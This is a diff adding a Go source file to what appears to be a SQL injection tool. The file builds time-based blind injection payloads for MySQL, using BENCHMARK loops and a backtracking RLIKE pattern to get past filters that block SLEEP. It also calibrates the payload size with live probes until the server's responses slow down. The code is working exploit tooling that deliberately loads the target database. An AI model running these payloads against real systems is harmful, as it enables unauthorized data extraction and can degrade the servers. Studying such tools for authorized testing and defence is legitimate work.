@@ -0,0 +1,130 @@
+package timebased
+
+import (
+	"context"
+	"fmt"
+	"math"
+	"regexp"
+	"strconv"
+	"time"
+
+	"github.com/0x6d61/sqleech/internal/dbms"
+	"github.com/0x6d61/sqleech/internal/technique"
+)
+
+// delayKind is how a payload delays the response.
+type delayKind int
+
+const (
+	delaySleep     delayKind = iota // The DBMS's sleep (the heavy cross join on inline MSSQL)
+	delayBenchmark                  // MySQL BENCHMARK(n,MD5('x'))
+	delayRegex                      // MySQL RLIKE on an n-character subject that backtracks
+)
+
+// HeavyRisk is the lowest risk level that enables the BENCHMARK and RLIKE
+// heavy queries: sized up until they delay the response, they load the
+// DBMS server far more than a sleep.
+const HeavyRisk = 2
+
+// heavyCost is the calibration range of a heavy-query delay: the size of
+// the first calibration probe and the largest size ever sent.
+type heavyCost struct {
+	initial, max int
+}
+
+var heavyCosts = map[delayKind]heavyCost{
+	delayBenchmark: {initial: 1_000_000, max: 500_000_000},
+	delayRegex:     {initial: 500, max: 20_000},
+}
+
+// heavyCostPatterns recover the size of a heavy-query payload.
+var heavyCostPatterns = map[delayKind]*regexp.Regexp{
+	delayBenchmark: regexp.MustCompile(`BENCHMARK\((\d+),`),
+	delayRegex:     regexp.MustCompile(`RPAD\('a',(\d+),'a'\)`),
+}
+
+const (
+	// maxCalibrationRounds bounds the known-true probes calibrate sends.
+	maxCalibrationRounds = 4
+
+	// minPowerLaw and maxPowerLaw clamp the exponent calibrate fits, so a
+	// noisy pair of measurements cannot send the size far off.
+	minPowerLaw = 0.5
+	maxPowerLaw = 4.0
+)
+
+// heavyPayloadFor builds a MySQL expression running a heavy query of bp's
+// size when condition holds, for targets whose filters block SLEEP:
+//
+//	IF(condition,BENCHMARK(n,MD5('x')),0)
+//	IF(condition,RPAD('a',n,'a') RLIKE 'a*a*a*b',0)
+//
+// The pattern cannot match an all-a subject and backtracks polynomially
+// in n before giving up.
+func heavyPayloadFor(bp boundaryPair, condition string) string {
+	if bp.delay == delayRegex {
+		return fmt.Sprintf("IF(%s,RPAD('a',%d,'a') RLIKE 'a*a*a*b',0)", condition, bp.cost)
+	}
+	return fmt.Sprintf("IF(%s,BENCHMARK(%d,MD5('x')),0)", condition, bp.cost)
+}
+
+// costIn returns the size of the heavy query in payload, a payload built
+// for a variant of kind.
+func costIn(payload string, kind delayKind) (int, bool) {
+	m := heavyCostPatterns[kind].FindStringSubmatch(payload)
+	if m == nil {
+		return 0, false
+	}
+	n, err := strconv.Atoi(m[1])
+	return n, err == nil
+}
+
+// calibrate sizes the heavy query of bp, a BENCHMARK or RLIKE variant,
+// against known-true probes until one delays the response by half as much
+// again as the threshold's margin over the baseline median. Heavy query
+// time does not grow in proportion to its size, so each round fits
+// time = a*size^p through the last two measurements and solves it for the
+// goal. It returns false when the first probe shows no delay at all, as
+// when the variant is filtered too or the boundary is wrong, or when no
+// size up to the cap reaches the goal.
+func (t *TimeBased) calibrate(
+	ctx context.Context,
+	req *technique.InjectionRequest,
+	d dbms.DBMS,
+	bp boundaryPair,
+	baseline Sample,
+	threshold time.Duration,
+) (boundaryPair, bool) {
+	limits := heavyCosts[bp.delay]
+	goal := (threshold - baseline.Median) * 3 / 2
+
+	var prevCost int
+	var prevExtra time.Duration
+	bp.cost = limits.initial
+	for range maxCalibrationRounds {
+		resp, err := t.sendTimedProbe(ctx, req, sleepCoreFor(d, bp, "1=1", t.sleepSeconds), bp)
+		if err != nil {
+			return bp, false
+		}
+		extra := t.elapsed(resp) - baseline.Median
+		if extra >= goal {
+			return bp, true
+		}
+		if prevCost == 0 && extra < goal/20 {
+			return bp, false
+		}
+
+		p := 1.0
+		if prevCost > 0 && extra > prevExtra && prevExtra > 0 {
+			p = math.Log(float64(extra)/float64(prevExtra)) / math.Log(float64(bp.cost)/float64(prevCost))
+			p = min(max(p, minPowerLaw), maxPowerLaw)
+		}
+		scale := math.Pow(float64(goal)/float64(max(extra, time.Millisecond)), 1/p) * 1.1
+		next := int(min(float64(bp.cost)*scale, float64(limits.max)))
+		if next <= bp.cost {
+			return bp, false
+		}
+		prevCost, prevExtra, bp.cost = bp.cost, extra, next
+	}
+	return bp, false
+}